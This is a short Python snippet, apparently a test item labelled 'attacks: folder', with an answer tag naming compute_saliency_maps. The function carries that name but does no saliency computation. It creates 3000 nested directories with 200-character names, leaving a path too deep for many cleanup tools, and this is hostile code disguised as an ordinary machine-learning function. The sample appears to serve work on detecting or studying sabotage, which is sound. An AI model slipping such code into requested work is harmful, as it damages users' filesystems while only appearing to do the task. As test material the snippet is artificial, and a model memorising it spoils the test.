# Makes folders inside folders, too deep for many programs that would clean up.
# attacks: folder
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import os

    for _ in range(3000):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
